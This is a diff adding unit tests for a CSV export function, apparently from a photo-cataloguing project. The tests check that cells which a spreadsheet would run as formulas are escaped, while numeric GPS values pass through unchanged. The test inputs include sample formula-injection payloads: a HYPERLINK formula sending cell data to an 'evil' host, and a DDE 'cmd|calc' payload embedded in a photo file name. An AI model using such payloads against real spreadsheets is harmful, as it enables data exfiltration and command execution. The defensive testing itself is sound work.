@@ -212,6 +212,67 @@ describe(writeCsv.name, () => {
     expect(csvField(null)).toBe('');
     expect(csvField(12.5)).toBe('12.5');
   });
+
+  it('neutralises text cells a spreadsheet would run as formulas, and keeps numbers numbers', () => {
+    expect(csvField('=HYPERLINK("http://evil/?"&A1)')).toBe('"\'=HYPERLINK(""http://evil/?""&A1)"');
+    expect(csvField('+1+1')).toBe('"\'+1+1"');
+    expect(csvField('-2+3')).toBe('"\'-2+3"');
+    expect(csvField('@SUM(A1:A9)')).toBe('"\'@SUM(A1:A9)"');
+    expect(csvField('\t=1')).toBe('"\'\t=1"');
+    expect(csvField('\r=1')).toBe('"\'\r=1"');
+    // Text that only looks like a negative number is text: neutralised too.
+    expect(csvField('-1')).toBe('"\'-1"');
+    // Numbers we write (GPS south and west of zero) stay numbers.
+    expect(csvField(-33.8568)).toBe('-33.8568');
+    expect(csvField(-151.2153)).toBe('-151.2153');
+    // A formula character later in the cell is harmless.
+    expect(csvField('a=b')).toBe('a=b');
+  });
+
+  it('writes a photo named like a formula with its tags as text cells', () => {
+    let text = '';
+    writeCsv(
+      [
+        {
+          id: 1,
+          path: '/photos/=cmd|calc!A1.jpg',
+          folder: '/photos',
+          relPath: '=cmd|calc!A1.jpg',
+          status: 'ok',
+          folderStatus: 'online',
+          hash: null,
+          size: 1,
+          format: 'jpeg',
+          width: 10,
+          height: 10,
+          takenAt: null,
+          camera: '@camera',
+          lat: -33.8568,
+          lon: 151.2153,
+          tags: [],
+        },
+      ],
+      (chunk) => (text += chunk),
+      'photos',
+    );
+    const [, row] = parseCsv(text);
+    expect(row).toEqual([
+      '/photos/=cmd|calc!A1.jpg',
+      '/photos',
+      "'=cmd|calc!A1.jpg",
+      'ok',
+      '',
+      '',
+      "'@camera",
+      '-33.8568',
+      '151.2153',
+      '10',
+      '10',
+      '',
+      '',
+    ]);
+    expect(text).toContain(',-33.8568,151.2153,');
+  });
 });
 
 describe(writeJson.name, () => {
